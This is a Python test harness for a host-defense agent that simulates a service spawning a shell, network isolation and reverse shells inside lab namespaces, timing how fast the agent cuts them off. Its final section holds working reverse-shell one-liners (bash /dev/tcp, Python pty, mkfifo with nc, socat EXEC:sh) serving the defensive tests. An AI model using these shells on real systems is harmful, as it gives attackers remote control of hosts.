"""Simulated breaches for the breach tests and bench/breach_latency.py: a "service" that
does what breach.service_shell describes, throw-away cgroups, two nodes joined by
wireguard-go, and the cut-off prober both latency benches time an isolation with.
Everything is bounded in time and removed by its context manager.

The service runs a copy of the Python interpreter at a path of its own (service_exe: a
file no other process on the host runs, by inode) that the agent under test lists in
breach.services, answers UDP datagrams (echo), and on a line "exec" on its stdin
starts `/bin/sh -c 'sleep 3'` as its child — a shell spawned by a network-facing service
— and prints "exec <CLOCK_MONOTONIC ns just before the spawn>". Triggering over stdin,
not the network, keeps the breach independent of the isolation it causes.

Reverse shells (tests/integration/test_reverse_shells.py, bench/reverse_shell.py):
reverse_shell() runs one wiring (BASH_TCP, PY_PTY, FIFO, SOCAT, ...) in a lab victim,
in a throw-away cgroup and under `timeout`, against a ShellListener in the attacker
namespace that waits until a command it sent has really run.
"""
from __future__ import annotations

import contextlib
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Generic, Iterator, TypeVar

import agent
from agent.enforce.cgroup import cgroup2_mount
from agent.enforce.wgapi import UAPI_DIR
from swarmlab.lab import Lab, netns, sh, wait_for

T = TypeVar("T", int, float)

SERVICE = r"""
import ctypes, select, socket, subprocess, sys, time
name, addr, port, duration_s = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)   # PR_SET_NAME: display only
s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
s.bind((addr, port))
print("ready", flush=True)
children, deadline = [], time.monotonic() + duration_s
while time.monotonic() < deadline:
    ready, _, _ = select.select([s, sys.stdin], [], [], 0.2)
    if s in ready:
        data, peer = s.recvfrom(64)
        try:
            s.sendto(data, peer)
        except OSError:      # EPERM while an nft output rule drops the reply
            pass
    if sys.stdin in ready:
        if not sys.stdin.readline():
            break
        # Told first: the isolation that follows may freeze this process right away.
        print(f"exec {time.monotonic_ns()}", flush=True)
        children.append(subprocess.Popen(["/bin/sh", "-c", "sleep 3"]))
for c in children:
    c.kill()
    c.wait()
"""


EXE_DIR = Path("/tmp/swarm-breachlab")
EXE_KEEP_S = 3600.0


def service_name() -> str:
    """A fresh service name, 15 characters at most, whose executable (service_exe) is a
    new copy of the Python interpreter; copies older than an hour are removed."""
    name = f"swsvc-{secrets.token_hex(4)}"
    EXE_DIR.mkdir(mode=0o755, exist_ok=True)
    for old in EXE_DIR.iterdir():
        with contextlib.suppress(OSError):
            if time.time() - old.stat().st_mtime > EXE_KEEP_S:
                old.unlink()
    shutil.copy(os.path.realpath(sys.executable), service_exe(name))
    return name


def service_exe(name: str) -> Path:
    """The executable of service `name` (see service_name)."""
    return EXE_DIR / name


class Service:
    """The breach service in namespace `ns`, a member of `cgroup` (a directory of the
    cgroup v2 hierarchy; its root for a breach that falls back to the node) from its first
    instruction, so its sockets belong to that cgroup. Killed by close()."""

    def __init__(self, ns: str, name: str, addr: str, port: int, cgroup: Path,
                 duration_s: float = 120.0):
        script = f'echo $$ > "{cgroup}/cgroup.procs" && exec ip netns exec "{ns}" "$@"'
        self.proc = subprocess.Popen(
            ["sh", "-c", script, "sh", str(service_exe(name)), "-c", SERVICE, name, addr, str(port),
             str(duration_s)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.addr, self.port = addr, port
        if self._line() != "ready":
            self.close()
            raise RuntimeError("the breach service did not start")

    def _line(self) -> str:
        assert self.proc.stdout is not None
        return self.proc.stdout.readline().strip()

    def breach(self) -> int:
        """Spawn the shell; CLOCK_MONOTONIC ns just before the spawn."""
        assert self.proc.stdin is not None
        self.proc.stdin.write("exec\n")
        self.proc.stdin.flush()
        word, _, t = self._line().partition(" ")
        if word != "exec":
            raise RuntimeError("the breach service did not spawn its shell")
        return int(t)

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait(timeout=10)

    def __enter__(self) -> "Service":
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def cgroup_path(d: Path) -> str:
    """"/swa-x" for a directory of the cgroup v2 hierarchy (as the agent names it)."""
    return "/" + str(d.relative_to(cgroup2_mount()))


@contextlib.contextmanager
def throwaway_cgroup(prefix: str = "swa-breach") -> Iterator[Path]:
    """A fresh cgroup under the v2 root; afterwards thawed, emptied (cgroup.kill), removed."""
    d = cgroup2_mount() / f"{prefix}-{secrets.token_hex(3)}"
    d.mkdir()
    try:
        yield d
    finally:
        remove_cgroup(d)


def remove_cgroup(d: Path) -> None:
    """Thaw `d`, kill what is in it (cgroup.kill takes its subtree too), wait (bounded)
    for it to empty, remove it and every cgroup a test made below it, deepest first."""
    with contextlib.suppress(OSError):
        (d / "cgroup.freeze").write_text("0")
        (d / "cgroup.kill").write_text("1")
    with contextlib.suppress(TimeoutError):
        wait_for(lambda: not (d / "cgroup.procs").read_text().strip(), 5.0)
    with contextlib.suppress(OSError):
        below = sorted((p for p in d.rglob("*") if p.is_dir()),
                       key=lambda p: len(p.parts), reverse=True)
        for sub in below:
            with contextlib.suppress(OSError):
                sub.rmdir()
    with contextlib.suppress(OSError):
        d.rmdir()


@dataclass
class WgPair:
    """The lab's attacker and victim joined by wireguard-go (interfaces named per lab:
    the UAPI socket directory is shared by every namespace)."""

    victim_if: str
    attacker_if: str
    attacker_key: str
    attacker_tunnel: str
    victim_tunnel: str

    @property
    def target(self) -> str:
        """The REMOVE_PEER target quarantining the attacker on the victim."""
        return f"{self.victim_if}:{self.attacker_key}"


@contextlib.contextmanager
def wireguard_pair(lab: Lab, tmp: Path, subnet_octet: int = 202,
                   port: int = 51822) -> Iterator[WgPair]:
    """wireguard-go in both lab namespaces, peered over the veth (keepalive set, so a
    restored peer handshakes at once); daemons killed and sockets removed after."""
    env = {**os.environ, "WG_I_PREFER_BUGGY_USERSPACE_TO_POLISHED_KMOD": "1"}
    procs: list[subprocess.Popen[bytes]] = []
    keys: dict[str, tuple[str, str, str, str]] = {}
    try:
        for side, octet in (("attacker", 1), ("victim", 2)):
            ns, ifname = getattr(lab, side), f"wz{side[0]}{lab.tag}"
            procs.append(subprocess.Popen(["ip", "netns", "exec", ns, "wireguard-go", "-f", ifname],
                                          env=env, stdout=subprocess.DEVNULL,
                                          stderr=subprocess.DEVNULL))
            wait_for(lambda: (UAPI_DIR / f"{ifname}.sock").is_socket(), 10.0)
            private = sh("wg", "genkey").stdout.strip()
            (tmp / f"wg-{side}.key").write_text(private + "\n")
            (tmp / f"wg-{side}.key").chmod(0o600)
            pub = sh("wg", "pubkey", input=private + "\n").stdout.strip()
            tunnel = f"10.{lab.subnet}.{subnet_octet}.{octet}"
            keys[side] = (ns, ifname, pub, tunnel)
            sh("wg", "set", ifname, "private-key", str(tmp / f"wg-{side}.key"),
               "listen-port", str(port), ns=ns)
            sh("ip", "addr", "add", f"{tunnel}/24", "dev", ifname, ns=ns)
            sh("ip", "link", "set", ifname, "up", ns=ns)
        for me, other in (("attacker", "victim"), ("victim", "attacker")):
            ns, ifname, _, _ = keys[me]
            _, _, pub, tunnel = keys[other]
            sh("wg", "set", ifname, "peer", pub, "endpoint", f"{lab.addr(other)}:{port}",
               "persistent-keepalive", "25", "allowed-ips", f"{tunnel}/32", ns=ns)
        yield WgPair(keys["victim"][1], keys["attacker"][1], keys["attacker"][2],
                     keys["attacker"][3], keys["victim"][3])
    finally:
        for p in procs:
            p.kill()
            p.wait(timeout=5)
        for _, ifname, _, _ in keys.values():
            with contextlib.suppress(FileNotFoundError):
                (UAPI_DIR / f"{ifname}.sock").unlink()


def agent_config(name: str, rules_dir: Path, extra: str = "") -> str:
    """Config for an agent under breach test: breach rules scoped to service `name` (only
    a shell below its executable fires), network rules as packaged, XDP on the lab veth."""
    return (f"rules_file: {rules_dir}\ninterfaces: [v0]\n"
            f"breach:\n  services: [{service_exe(name)}]\n  credential_paths: []\n"
            f"  read_paths: []\n{extra}")


def scoped_rules(dest: Path, breach_ids: tuple[str, ...] = ("breach.service_shell",)) -> Path:
    """A rules directory: the packaged network rules and only `breach_ids` of the packaged
    breach rules (the others react to host-wide activity: BPF loads, ptrace, modules)."""
    import yaml

    packaged = Path(agent.__file__).resolve().parent / "rules"
    dest.mkdir(parents=True, exist_ok=True)
    (dest / "network.yaml").write_text((packaged / "network.yaml").read_text())
    rules = yaml.safe_load((packaged / "breach.yaml").read_text())["rules"]
    kept = [r for r in rules if r["id"] in breach_ids]
    (dest / "breach.yaml").write_text(yaml.safe_dump({"rules": kept}, sort_keys=False))
    return dest


class CutProber(Generic[T]):
    """When did traffic to a UDP echo server stop being answered?

    Contract: as a context manager, it opens a UDP socket in namespace `ns` (so the probes
    cross only the lab's own links), connects it to `addr`:`port`, and starts two threads:
    a sender that sends datagram n (n as 8 bytes, big-endian) every ~`interval_s`,
    recording `clock()` just before each send, for at most `send_limit_s`; and a receiver
    that records every number echoed back. Leaving the block stops and joins both threads
    and closes the socket. The caller brackets its action with wait_answering() before and
    its own settling wait after; first_unanswered() is then the send time of the datagram
    after the highest one answered. `clock` is the caller's, so the result compares with
    the caller's own start time (CLOCK_MONOTONIC ns from another process, or perf_counter).
    """

    def __init__(self, ns: str, addr: str, port: int, *, interval_s: float,
                 send_limit_s: float, clock: Callable[[], T]):
        self.ns, self.addr, self.port = ns, addr, port
        self.interval_s, self.send_limit_s, self.clock = interval_s, send_limit_s, clock
        self.sent: list[T] = []       # index = datagram number; only the sender appends
        self.answered: set[int] = set()
        self.highest = -1             # kept as answers come: polled often, the set only grows
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._receive), threading.Thread(target=self._send)]

    def __enter__(self) -> "CutProber[T]":
        with netns(self.ns):          # the socket belongs to the namespace it was made in
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            # A short timeout lets the receiver notice the stop event while nothing comes back.
            self.sock.settimeout(0.05)
            self.sock.connect((self.addr, self.port))
        except OSError:
            self.sock.close()
            raise
        for t in self._threads:
            t.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        for t in self._threads:
            t.join()
        self.sock.close()

    def _receive(self) -> None:
        while not self._stop.is_set():
            # A timeout, or ECONNREFUSED/EPERM while the path is cut, is just "no answer".
            with contextlib.suppress(OSError):
                n = int.from_bytes(self.sock.recv(16), "big")
                self.answered.add(n)
                self.highest = max(self.highest, n)

    def _send(self) -> None:
        # Bounded on its own, so a caller that hangs cannot leave it flooding.
        deadline = time.monotonic() + self.send_limit_s
        while not self._stop.is_set() and time.monotonic() < deadline:
            self.sent.append(self.clock())
            with contextlib.suppress(OSError):   # EPERM from an nft output drop, say
                self.sock.send((len(self.sent) - 1).to_bytes(8, "big"))
            time.sleep(self.interval_s)

    def wait_answering(self, timeout_s: float, count: int = 20) -> None:
        """Wait until `count` datagrams came back, so a later silence means a cut."""
        wait_for(lambda: len(self.answered) >= count, timeout_s)

    def silent_for(self, n: int) -> bool:
        """None of the last `n` datagrams sent has been answered (yet)."""
        return self.highest < len(self.sent) - n

    def first_unanswered(self) -> T | None:
        """Send time of the first datagram after the highest answered; None if none was
        sent after it (the path was never seen cut)."""
        i = self.highest + 1
        return self.sent[i] if i < len(self.sent) else None


# --- reverse shells however they are wired (tests/integration/test_reverse_shells.py,
# bench/reverse_shell.py) ---------------------------------------------------------------

REVSHELL_TIMEOUT_S = 20    # every wiring runs under `timeout`; its cgroup is killed after


class ShellListener:
    """The attacker's end, in the attacker namespace: accepts one connection, sends a
    command and reads until its output comes back (bounded in time)."""

    def __init__(self, lab: Lab):
        with netns(lab.attacker):
            self.srv = socket.create_server((lab.addr("attacker"), 0))
        self.srv.settimeout(REVSHELL_TIMEOUT_S)
        self.addr, self.port = lab.addr("attacker"), self.srv.getsockname()[1]
        self.conn: socket.socket | None = None

    def drive(self, timeout_s: float = 10.0) -> bytes:
        """Accept, send `echo PWNED-$((6*7))`, return what came back once "PWNED-42" did
        (only a shell that ran the command prints 42) or the time ran out."""
        self.conn, _ = self.srv.accept()
        self.conn.settimeout(0.2)
        self.conn.sendall(b"echo PWNED-$((6*7))\n")
        got, deadline = b"", time.monotonic() + timeout_s
        while b"PWNED-42" not in got and time.monotonic() < deadline:
            try:
                chunk = self.conn.recv(4096)
            except TimeoutError:
                continue
            if not chunk:
                break
            got += chunk
        return got

    def close(self) -> None:
        if self.conn is not None:
            self.conn.close()
        self.srv.close()


def run_wiring(lab: Lab, cgroup: Path, script: str, *args: str) -> subprocess.Popen:
    """`sh -c script` in the victim namespace, in `cgroup` from its first instruction."""
    pre = (f'echo $$ > "{cgroup}/cgroup.procs" && '
           f'exec ip netns exec "$0" timeout {REVSHELL_TIMEOUT_S} ')
    return subprocess.Popen(["sh", "-c", pre + 'sh -c "$@"', lab.victim, script, *args],
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)


@contextlib.contextmanager
def reverse_shell(lab: Lab, script: str, *args: str) -> Iterator[tuple[str, ShellListener]]:
    """Run a reverse-shell wiring until the listener saw its command run; yields
    (cgroup path, listener) with everything still alive, then kills it all."""
    listener = ShellListener(lab)
    with throwaway_cgroup("swa-revsh") as d:
        proc = run_wiring(lab, d, script, listener.addr, str(listener.port), *args)
        try:
            got = listener.drive()
            assert b"PWNED-42" in got, got
            yield cgroup_path(d), listener
        finally:
            listener.close()
            proc.kill()
            proc.wait(timeout=10)


def python_wiring(code: str, exe: str | Path = sys.executable) -> tuple[str, str]:
    """(script, code) for reverse_shell(): `exe -c code ADDR PORT` (PYTHONHOME lets a copy
    of the interpreter under another name find its library)."""
    return f'PYTHONHOME=/usr exec {exe} -c "$2" "$0" "$1"', code


# Scripts for reverse_shell(): "$0" is the listener's address, "$1" its port.
BASH_TCP = 'exec bash -c "bash -i >& /dev/tcp/$0/$1 0>&1"'
PY_PTY = ("import os, pty, socket, sys\n"
          "s = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n"
          "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n"
          "pty.spawn('/bin/sh')\n")
FIFO = 'rm -f "$2"; mkfifo "$2"; cat "$2" | sh -i 2>&1 | nc "$0" "$1" > "$2"'
SOCAT = 'exec socat TCP:"$0":"$1" EXEC:sh'
# the classic, and the same with relays between (cat | cat)
FIFO_RELAYED = 'rm -f "$2"; mkfifo "$2"; cat "$2" | cat | sh -i 2>&1 | cat | nc "$0" "$1" > "$2"'
# A pty relay without dup2, shaped like sshd: the pty master and the socket in one process.
PTY_RELAY = """
import os, pty, select, socket, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
pid, master = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh"])
deadline = time.monotonic() + 15
while time.monotonic() < deadline:
    r, _, _ = select.select([s, master], [], [], 0.5)
    if s in r:
        data = s.recv(4096)
        if not data:
            break
        os.write(master, data)
    if master in r:
        try:
            s.sendall(os.read(master, 4096))
        except OSError:
            break
"""
